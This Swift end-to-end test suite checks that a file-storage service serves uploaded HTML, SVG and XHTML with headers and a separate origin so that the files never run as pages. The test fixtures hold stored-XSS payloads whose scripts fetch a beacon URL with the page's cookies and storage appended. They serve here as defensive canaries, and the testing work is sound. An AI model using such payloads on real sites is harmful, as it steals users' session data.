import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif
import Testing
import TestSupport

/// Stored files cannot attack the origin serving them: no file runs as a page (headers,
/// disposition, a browser that opens them), public files can live on an origin of their
/// own, and the admin page keeps no token where another page of its origin could read it.
@Suite(.serialized, .timeLimit(.minutes(5)), .enabled(if: E2E.enabled, "needs DATABASE_URL, AMQP_URL and built services"))
struct FileSafetyTests {
    /// A page and an image that, if they ever ran, would call `beacon` (another origin).
    static func hostileFiles(beacon: String) -> [(name: String, type: String, body: Data)] {
        [
            ("html", "text/html", Data("""
                <!doctype html><html><body><script>
                fetch("\(beacon)/ran-html?t=" + encodeURIComponent(sessionStorage.length + "/" + document.cookie)).catch(() => {});
                new Image().src = "\(beacon)/ran-html-image";
                </script><img src="\(beacon)/ran-html-markup"></body></html>
                """.utf8)),
            ("svg", "image/svg+xml", Data("""
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
                <script>fetch("\(beacon)/ran-svg").catch(() => {});</script>
                <image xlink:href="\(beacon)/ran-svg-markup" width="10" height="10"/></svg>
                """.utf8)),
            ("xhtml", "application/xhtml+xml", Data("""
                <html xmlns="http://www.w3.org/1999/xhtml"><body><script>fetch("\(beacon)/ran-xhtml").catch(() => {});</script></body></html>
                """.utf8)),
        ]
    }

    /// Publishes `files` in one record; returns the public id.
    static func publish(_ api: APIClient, _ token: String, _ files: [(name: String, type: String, body: Data)]) async throws -> String {
        let device = try await api.registerDevice(token)
        var data: [String: Any] = ["title": "Harbour guide"]
        for file in files {
            #expect(try await AttachmentTests.put(api, token, file.body, type: file.type).status == 201)
            data[file.name] = AttachmentTests.reference(file.body, AttachmentTests.sha256(file.body), type: file.type)
        }
        let publicID = "guide-\(UUID().uuidString.prefix(8).lowercased())"
        let push = try await api.push(token, device: device, ops: [
            ["op_id": newOpID(), "type": "upsert", "collection": "guides", "id": "g1", "data": data],
            ["op_id": newOpID(), "type": "publish", "collection": "guides", "id": "g1", "public_id": publicID],
        ])
        _ = try await api.awaitJob(token, try #require(push.json["job_id"] as? String))
        return publicID
    }

    @Test func everyFileIsServedSoThatNoneRunsAsAPage() async throws {
        try await InProcessStack.with(workers: 1) { stack in
            let api = stack.client
            let token = await E2E.token("sailor-\(UUID().uuidString.prefix(6))")
            let picture = AttachmentTests.randomBytes(2_000)
            let files = Self.hostileFiles(beacon: "http://127.0.0.1:9") + [("photo", "image/png", picture), ("song", "audio/mpeg", Data("ID3".utf8))]
            let publicID = try await Self.publish(api, token, files)
            for file in files {
                let sha = AttachmentTests.sha256(file.body)
                let passive = file.type.hasPrefix("image/png") || file.type.hasPrefix("audio/")
                let requests: [(method: String, path: String, token: String?)] = [
                    ("GET", "/v1/blobs/\(sha)", token), ("HEAD", "/v1/blobs/\(sha)", token),
                    ("GET", "/v1/public/\(publicID)/blobs/\(sha)", nil),
                ]
                for (method, path, auth) in requests {
                    let answer = try await api.request(method, path, token: auth)
                    #expect(answer.status == 200, "\(method) \(path)")
                    #expect(answer.header("X-Content-Type-Options") == "nosniff", "\(file.type)")
                    #expect(answer.header("Content-Security-Policy") == "default-src 'none'; sandbox", "\(file.type)")
                    #expect(answer.header("Content-Disposition") == (passive ? "inline" : "attachment"), "\(file.type)")
                }
                let revalidated = try await api.request("GET", "/v1/blobs/\(sha)", token: token, headers: ["If-None-Match": "\"\(sha)\""])
                #expect(revalidated.status == 304 && revalidated.header("Content-Security-Policy") != nil)
            }
        }
    }

    /// An operator signed in to /admin opens published HTML, SVG and XHTML files in the same
    /// tab and in new tabs: no script of theirs runs, nothing they name is loaded, and the
    /// admin token is in no storage a page of the origin could read.
    @Test(.enabled(if: Browser.executable != nil, "needs Chromium"))
    func aBrowserOpeningPublishedFilesRunsNoScript() async throws {
        try await Stack.with(workers: 1) { stack in
            let api = stack.client
            let beacon = try await StaticFileServer()
            defer { beacon.stop() }
            let token = await E2E.token("author-\(UUID().uuidString.prefix(6))")
            let files = Self.hostileFiles(beacon: beacon.base)
            let publicID = try await Self.publish(api, token, files)

            let browser = try Browser()
            defer { browser.quit() }
            let adminTab = try browser.open("\(api.base)/admin")
            try browser.waitFor("!document.getElementById('login').hidden")
            try browser.type(into: "#token", await E2E.token("operator", admin: true))
            try browser.click("#save")
            try browser.waitFor("document.getElementById('status').textContent.startsWith('updated')")
            // The token lives in the page's memory only.
            #expect(try browser.evaluate("sessionStorage.length + localStorage.length") as? Int == 0)
            #expect(try browser.evaluate("document.cookie") as? String == "")
            for file in files {
                let url = "\(api.base)/v1/public/\(publicID)/blobs/\(AttachmentTests.sha256(file.body))"
                try browser.open(url)
                browser.use(adminTab)
                try browser.navigate(url)
            }
            try await Task.sleep(for: .seconds(2))
            let ran = beacon.requestedPaths.filter { $0.contains("ran-") }
            #expect(ran.isEmpty, "a stored file ran or loaded: \(ran)")
        }
    }

    /// With `PUBLIC_FILES_ORIGIN`, a public file asked for on the API's host is sent to the
    /// files origin, and that origin serves nothing else (no API, no /admin).
    @Test func publicFilesCanBeServedFromAnOriginOfTheirOwn() async throws {
        try await Stack.with(workers: 1) { stack in
            let port = stack.gateway.port
            let filesOrigin = "http://localhost:\(port)"
            try await stack.replaceGateway(environment: stack.environment.merging(["PUBLIC_FILES_ORIGIN": filesOrigin]) { $1 })
            let api = stack.client
            let token = await E2E.token("author-\(UUID().uuidString.prefix(6))")
            let picture = AttachmentTests.randomBytes(3_000)
            let publicID = try await Self.publish(api, token, [("photo", "image/png", picture)])
            let path = "/v1/public/\(publicID)/blobs/\(AttachmentTests.sha256(picture))?download=1"
            let redirected = try await NoRedirects.request(api.base + path)
            #expect(redirected.status == 308)
            #expect(redirected.location == filesOrigin + path)
            let onFilesOrigin = APIClient(base: filesOrigin)
            let read = try await onFilesOrigin.request("GET", path)
            #expect(read.status == 200 && read.body == picture)
            for other in ["/admin", "/v1/sync/pull", "/v1/public/\(publicID)", "/openapi.yaml"] {
                #expect(try await onFilesOrigin.request("GET", other, token: token).status == 404, "\(other) on the files origin")
            }
            #expect(try await onFilesOrigin.request("GET", "/readyz").status == 200)
            #expect(try await api.request("GET", "/v1/sync/pull", token: token).status == 200)
        }
    }

    @Test(arguments: AttachmentTests.Store.allCases)
    func anEmptyFileIsStoredAndReadBack(_ store: AttachmentTests.Store) async throws {
        let (environment, directory) = AttachmentTests.environment(store)
        defer { if let directory { try? FileManager.default.removeItem(atPath: directory) } }
        try await InProcessStack.with(workers: 1, environment: environment) { stack in
            let api = stack.client
            let empty = Data()
            let sha = AttachmentTests.sha256(empty)
            // Through tus, an empty file is finished at its creation.
            let alice = await E2E.token("empty-\(UUID().uuidString.prefix(6))")
            let created = try await api.request("POST", "/v1/uploads", token: alice, headers: [
                "Tus-Resumable": "1.0.0", "Upload-Length": "0",
                "Upload-Metadata": "sha256 \(Data(sha.utf8).base64EncodedString())",
            ])
            #expect(created.status == 201, "tus creation of an empty file: \(created.text)")
            // Through PUT, in another space.
            let bob = await E2E.token("empty-\(UUID().uuidString.prefix(6))")
            #expect(try await AttachmentTests.put(api, bob, empty).status == 201)
            for token in [alice, bob] {
                let read = try await api.request("GET", "/v1/blobs/\(sha)", token: token)
                #expect(read.status == 200 && read.body.isEmpty && read.header("Content-Length") == "0", "\(read.status) \(read.text)")
            }
        }
    }
}

/// One request whose redirect is reported, not followed.
final class NoRedirects: NSObject, URLSessionTaskDelegate, @unchecked Sendable {
    func urlSession(
        _ session: URLSession, task: URLSessionTask, willPerformHTTPRedirection response: HTTPURLResponse,
        newRequest request: URLRequest, completionHandler: @escaping (URLRequest?) -> Void
    ) {
        completionHandler(nil)
    }

    static func request(_ url: String) async throws -> (status: Int, location: String?) {
        let session = URLSession(configuration: .ephemeral, delegate: NoRedirects(), delegateQueue: nil)
        defer { session.finishTasksAndInvalidate() }
        let (_, response) = try await session.data(from: URL(string: url)!)
        let http = response as! HTTPURLResponse
        return (http.statusCode, http.value(forHTTPHeaderField: "Location"))
    }
}
